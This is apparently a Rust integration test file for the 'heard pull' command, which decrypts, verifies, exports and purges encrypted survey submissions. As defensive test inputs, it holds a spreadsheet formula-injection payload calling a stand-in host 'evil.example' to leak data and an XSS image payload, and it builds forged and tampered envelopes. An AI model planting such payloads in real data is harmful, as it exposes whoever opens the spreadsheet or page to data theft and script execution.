//! `heard pull` against a real server: decrypting, verifying the
//! enrollment-group signature, setting aside what fails (damaged, sealed to
//! another key, unsigned, unknown group, bad signature, mismatched), exports
//! with formula neutralisation, resuming, purging, and bad input: a wrong
//! identity, a file that is not one, an unreachable server. age interop
//! both ways: the `age` CLI opens a set-aside envelope, and an identity
//! from `age-keygen` pulls.

mod support;

use heard_engine::submission::{GroupSignature, QuestionnaireRef, Submission, random_id};
use heard_protocol::UploadItem;
use heard_protocol::signing::SecretKey;
use predicates::prelude::*;
use std::collections::BTreeSet;
use support::{Setup, response};

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak\",\"click me\")";
const IMG: &str = "<img src=x onerror=alert(1)>";

fn recipient(s: &Setup, key: &str) -> age::x25519::Recipient {
    heard_cli::keys::read_identities(&s.path(key)).expect("identity")[0].to_public()
}

fn sealed(submission: &Submission, to: &age::x25519::Recipient) -> UploadItem {
    let plain = heard_engine::seal::pad(submission.to_canonical_json(), 1024);
    UploadItem {
        submission_id: submission.submission_id.clone(),
        questionnaire_id: submission.questionnaire.id.clone(),
        questionnaire_version: submission.questionnaire.version,
        envelope: heard_engine::seal::seal(&plain, std::slice::from_ref(to)).expect("seal"),
    }
}

fn plain_submission(group: Option<(&str, &SecretKey)>) -> Submission {
    let mut s = Submission {
        schema: 1,
        submission_id: random_id(),
        questionnaire: QuestionnaireRef {
            id: "post-encounter".into(),
            version: 1,
        },
        kind: "survey".into(),
        locale: "en".into(),
        submitted_on: "2026-11-02".into(),
        answers: response("en", "4", None).answers(),
        group: None,
    };
    if let Some((name, key)) = group {
        s.group = Some(GroupSignature {
            group: name.into(),
            signature: key.sign(&s.signed_bytes()),
        });
    }
    s
}

fn lines(path: &std::path::Path) -> Vec<String> {
    std::fs::read_to_string(path)
        .expect("read")
        .lines()
        .map(str::to_string)
        .collect()
}

fn pull(s: &Setup, extra: &[&str]) -> assert_cmd::assert::Assert {
    s.heard_admin(&["pull", "--identity", "steward.key", "--out", "out"])
        .args(extra)
        .assert()
}

#[test]
fn pull_decrypts_verifies_exports_and_sets_aside_what_does_not_verify() {
    let s = Setup::organization();
    let device = s.device("north");
    device.submit(&response("en", "5", Some(HYPERLINK)));
    device.submit(&response("ar", "2", Some(IMG)));
    device.submit(&response("ti", "4", Some("-1+1")));
    device.sync(&s);

    // Envelopes no honest device of this organization sends.
    let steward = recipient(&s, "steward.key");
    let groups: toml::Table =
        toml::from_str(&std::fs::read_to_string(s.path("org/groups.toml")).expect("groups"))
            .expect("toml");
    let north = SecretKey::from_base64(groups["north"]["secret"].as_str().expect("secret"))
        .expect("group key");
    let unsigned = plain_submission(None);
    let ghost = plain_submission(Some(("ghost", &SecretKey::generate())));
    let forged = plain_submission(Some(("north", &SecretKey::generate())));
    let foreign = sealed(
        &plain_submission(Some(("north", &north))),
        &age::x25519::Identity::generate().to_public(),
    );
    let mut damaged = sealed(&plain_submission(Some(("north", &north))), &steward);
    let last = damaged.envelope.len() - 20;
    damaged.envelope[last] ^= 0x55;
    let mut mismatch = sealed(&plain_submission(Some(("north", &north))), &steward);
    mismatch.submission_id = random_id();
    let unsigned_id = unsigned.submission_id.clone();
    device.upload_raw(
        &s,
        vec![
            sealed(&unsigned, &steward),
            sealed(&ghost, &steward),
            sealed(&forged, &steward),
            foreign,
            damaged,
            mismatch,
        ],
    );

    pull(&s, &[])
        .success()
        .stdout(predicate::str::contains("Pulled 9 new envelope(s)"))
        .stdout(predicate::str::contains(
            "3 decrypted and verified, 6 set aside",
        ));

    let version = s.path("out/post-encounter-v1");
    assert_eq!(lines(&version.join("submissions.jsonl")).len(), 3);
    // CSV: one column per question, labels beside codes, formulas neutralised.
    let mut csv = csv::Reader::from_path(version.join("submissions.csv")).expect("csv");
    let headers = csv.headers().expect("headers").clone();
    for column in [
        "submission_id",
        "locale",
        "group",
        "pj_respect",
        "pj_respect:label",
        "outcome",
        "outcome:label",
        "outcome/arrested",
        "anything_else",
    ] {
        assert!(
            headers.iter().any(|h| h == column),
            "{column} in {headers:?}"
        );
    }
    let comment = headers
        .iter()
        .position(|h| h == "anything_else")
        .expect("column");
    let comments: BTreeSet<String> = csv
        .records()
        .map(|r| r.expect("row")[comment].to_string())
        .collect();
    assert!(comments.contains(&format!("'{HYPERLINK}")), "{comments:?}");
    assert!(comments.contains("'-1+1"), "{comments:?}");
    assert!(comments.contains(IMG), "{comments:?}");
    // XLSX: the same neutralisation, read back with calamine.
    use calamine::{Reader, Xlsx, open_workbook};
    let mut book: Xlsx<_> = open_workbook(version.join("submissions.xlsx")).expect("xlsx");
    let sheet = book.worksheet_range("submissions").expect("sheet");
    let cells: Vec<String> = sheet.cells().map(|(_, _, c)| c.to_string()).collect();
    assert!(cells.contains(&format!("'{HYPERLINK}")), "xlsx neutralises");
    assert!(!cells.iter().any(|c| c.starts_with('=')), "no formula cell");
    assert_eq!(sheet.height(), 4, "header and three rows");

    // Set aside: each reason once, envelope kept, never exported.
    let aside = lines(&s.path("out/set-aside/set-aside.jsonl"));
    let reasons: BTreeSet<String> = aside
        .iter()
        .map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).expect("json");
            assert!(
                s.path(&format!(
                    "out/set-aside/{}.age",
                    v["submission_id"].as_str().expect("id")
                ))
                .exists()
            );
            v["reason"].as_str().expect("reason").to_string()
        })
        .collect();
    let expected: BTreeSet<String> = [
        "unsigned",
        "unknown-group",
        "bad-signature",
        "not-for-this-key",
        "damaged",
        "mismatch",
    ]
    .map(String::from)
    .into();
    assert_eq!(reasons, expected);
    let state: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(s.path("out/pull.json")).expect("state"))
            .expect("json");
    assert_eq!(state["summary"]["by_group"]["north"], 3);
    assert_eq!(state["summary"]["set_aside"]["damaged"], 1);

    // age interop: the age CLI opens a Heard envelope with the heard keygen key.
    let opened = std::process::Command::new("age")
        .args(["-d", "-i"])
        .arg(s.path("steward.key"))
        .arg(s.path(&format!("out/set-aside/{unsigned_id}.age")))
        .output()
        .expect("the age CLI is installed (cargo xtask test installs it)");
    assert!(
        opened.status.success(),
        "{}",
        String::from_utf8_lossy(&opened.stderr)
    );
    assert!(String::from_utf8_lossy(&opened.stdout).contains(&unsigned_id));

    // Pulling again brings nothing new and keeps everything; labels in a
    // language the questionnaire lacks are said to be in its own.
    pull(&s, &["--locale", "de"])
        .success()
        .stdout(predicate::str::contains("Pulled 0 new envelope(s)"))
        .stdout(predicate::str::contains(
            "labels are in en, as the questionnaire is not written in de",
        ));
    assert_eq!(lines(&version.join("submissions.jsonl")).len(), 3);

    // An interrupted pull left half a line: the next pull cuts it away.
    // (Without that mark, extra bytes are refused: see the unit tests.)
    use std::io::Write;
    std::fs::OpenOptions::new()
        .append(true)
        .open(version.join("submissions.jsonl"))
        .and_then(|mut f| f.write_all(b"{\"schema\":1,\"submiss"))
        .expect("append");
    // (an interrupted page leaves pull.json marked as appending)
    let state_path = s.path("out/pull.json");
    let mut state: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&state_path).expect("state")).expect("json");
    state["appending"] = serde_json::json!(true);
    std::fs::write(&state_path, state.to_string()).expect("write");
    device.submit(&response("fa", "3", None));
    device.sync(&s);
    pull(&s, &["--purge"])
        .success()
        .stdout(predicate::str::contains("Pulled 1 new envelope(s)"))
        .stdout(predicate::str::contains(
            "Deleted 4 envelope(s) from the server",
        ))
        .stdout(predicate::str::contains(
            "6 set-aside envelope(s) stay on the server",
        ));
    let kept = lines(&version.join("submissions.jsonl"));
    assert_eq!(kept.len(), 4);
    for l in &kept {
        serde_json::from_str::<Submission>(l).expect("every line is whole");
    }
    let admin = heard_cli::admin::Admin::new(&s.url, support::TOKEN).expect("admin");
    let page = s.rt.block_on(admin.export_page(0, 100)).expect("export");
    // What was kept is purged; what was set aside stays, to be read again
    // once the folder or key is fixed.
    let set_aside = std::fs::read_to_string(s.path("out/set-aside/set-aside.jsonl")).expect("list");
    assert_eq!(page.items.len(), 6, "only the set-aside envelopes stay");
    for item in &page.items {
        assert!(
            set_aside.contains(&item.submission_id),
            "{} was kept, not purged",
            item.submission_id
        );
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        for file in ["submissions.jsonl", "submissions.csv", "submissions.xlsx"] {
            let mode = std::fs::metadata(version.join(file))
                .expect("file")
                .permissions()
                .mode();
            assert_eq!(mode & 0o777, 0o600, "{file} holds decrypted answers");
        }
        let mode = std::fs::metadata(s.path("out"))
            .expect("dir")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o700);
    }
}

#[test]
fn purge_deletes_only_what_this_folder_holds() {
    let s = Setup::organization();
    let device = s.device("north");
    device.submit(&response("en", "5", None));
    device.submit(&response("en", "4", None));
    device.sync(&s);
    pull(&s, &[]).success();
    // The server's log restarts behind this folder's position (a restored
    // or replaced database): newer envelopes get older positions.
    device.submit(&response("ar", "3", None));
    device.sync(&s);
    let state_path = s.path("out/pull.json");
    let mut state: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&state_path).expect("state")).expect("json");
    state["after"] = serde_json::json!(1_000_000);
    std::fs::write(&state_path, state.to_string()).expect("write");
    pull(&s, &["--purge"])
        .success()
        .stdout(predicate::str::contains(
            "Deleted 2 envelope(s) from the server",
        ))
        .stdout(predicate::str::contains(
            "1 envelope(s) older than this folder's position",
        ));
    let admin = heard_cli::admin::Admin::new(&s.url, support::TOKEN).expect("admin");
    let page = s.rt.block_on(admin.export_page(0, 100)).expect("export");
    assert_eq!(
        page.items.len(),
        1,
        "the envelope never pulled stays on the server"
    );
}

#[test]
fn a_wrong_identity_or_a_broken_one_is_refused_and_nothing_is_written() {
    let s = Setup::organization();
    let device = s.device("north");
    device.submit(&response("en", "5", None));
    device.sync(&s);
    s.heard(&["keygen", "-o", "other.key"]).assert().success();
    s.heard_admin(&["pull", "--identity", "other.key", "--out", "out"])
        .assert()
        .failure()
        .stderr(predicate::str::contains(
            "other.key: this key opens none of the submissions",
        ));
    assert!(!s.path("out/pull.json").exists());
    assert!(!s.path("out/post-encounter-v1").exists());
    std::fs::write(s.path("bad.key"), "AGE-SECRET-KEY-1NOPE\n").expect("write");
    s.heard_admin(&["pull", "--identity", "bad.key", "--out", "out"])
        .assert()
        .failure()
        .stderr(predicate::str::contains("bad.key:1: not an age identity"));
    s.heard_admin(&["pull", "--identity", "missing.key", "--out", "out"])
        .assert()
        .failure()
        .stderr(predicate::str::contains("missing.key"));
    // The right key still pulls everything afterwards; a wrong key after
    // that is still refused rather than setting new envelopes aside.
    pull(&s, &[])
        .success()
        .stdout(predicate::str::contains("1 decrypted and verified"));
    device.submit(&response("en", "4", None));
    device.sync(&s);
    s.heard_admin(&["pull", "--identity", "other.key", "--out", "out"])
        .assert()
        .failure()
        .stderr(predicate::str::contains("opens none of the submissions"));
    pull(&s, &[]).success().stdout(predicate::str::contains(
        "1 decrypted and verified, 0 set aside",
    ));
    // A damaged state file is named with its line; nothing pulled is lost.
    let jsonl = s.path("out/post-encounter-v1/submissions.jsonl");
    let before = std::fs::read(&jsonl).expect("jsonl");
    std::fs::write(s.path("out/pull.json"), "{\n  \"server\": \n").expect("damage");
    s.heard_admin(&["pull", "--identity", "steward.key", "--out", "out"])
        .assert()
        .failure()
        .stderr(predicate::str::contains("pull.json:3:"));
    assert_eq!(std::fs::read(&jsonl).expect("jsonl"), before);
}

#[test]
fn an_unreachable_server_is_reported_and_nothing_is_written() {
    let s = Setup::organization();
    let closed = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").expect("port");
        format!("http://{}", l.local_addr().expect("addr"))
    };
    s.heard_admin(&[
        "pull",
        "--identity",
        "steward.key",
        "--out",
        "out",
        "--server",
        &closed,
    ])
    .assert()
    .failure()
    .stderr(predicate::str::contains("cannot reach the server at"));
    assert!(!s.path("out/pull.json").exists());
}

#[test]
fn an_identity_from_age_keygen_seals_and_pulls() {
    let s = Setup::server();
    let status = std::process::Command::new("age-keygen")
        .arg("-o")
        .arg(s.path("age.key"))
        .output()
        .expect("age-keygen is installed (cargo xtask test installs it)");
    assert!(status.status.success());
    s.heard(&[
        "org",
        "init",
        "--org",
        "org",
        "--name",
        "Aid",
        "--server",
        &s.url,
        "--identity",
        "age.key",
    ])
    .assert()
    .success();
    s.heard_admin(&["questionnaire", "publish"])
        .arg(support::repo("questionnaires/post-encounter"))
        .assert()
        .success();
    let device = s.device("east");
    device.submit(&response("uk", "5", None));
    device.sync(&s);
    s.heard_admin(&["pull", "--identity", "age.key", "--out", "out"])
        .assert()
        .success()
        .stdout(predicate::str::contains(
            "1 decrypted and verified, 0 set aside",
        ));
}
